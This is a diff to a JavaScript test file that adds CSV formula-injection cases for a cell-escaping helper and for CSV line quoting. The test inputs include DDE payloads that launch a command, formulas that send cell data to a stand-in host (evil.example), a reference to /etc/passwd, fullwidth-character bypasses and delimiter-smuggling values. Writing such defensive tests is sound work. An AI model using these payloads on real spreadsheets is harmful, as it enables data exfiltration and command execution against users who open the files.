@@ -67,9 +67,38 @@ describe('parseCsv', () => {
 })
 
 describe('safeCell', () => {
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])('keeps a spreadsheet from running %j', (text) => {
+  it.each([
+    '=1+1',
+    "=cmd|'/c calc'!A0",
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    '=WEBSERVICE("https://evil.example")',
+    '=IMPORTXML("https://evil.example","//a")',
+    "='file:///etc/passwd'#$x.A1",
+    '=DDE("cmd","/c calc","x")',
+    '+1',
+    "+cmd|'/c calc'!A0",
+    '-1',
+    "-2+3+cmd|'/c calc'!A0",
+    '@SUM(A1)',
+    "@SUM(1+1)*cmd|'/c calc'!A0",
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+    "'=1+1",
+    "''=1+1",
+  ])('keeps a spreadsheet from running %j', (text) => {
     expect(safeCell(text)).toBe(`'${text}`)
     expect(unsafeCell(safeCell(text))).toBe(text)
+  })
+
+  it.each(['x";=1+1', 'x;=1+1', 'x\t=1+1', 'x,=1+1', 'x\r\n=1+1', '",=1+1'])('lets no cell begin within %j', (text) => {
+    const line = csvLine([text, 'end'])
+    expect(line).toBe(`"${text.replaceAll('"', '""')}",end\r\n`)
+    expect(parseCsv(line, LIMIT)).toEqual([[text, 'end']])
   })
 
   it('lets numbers, and text that is none of these, be', () => {
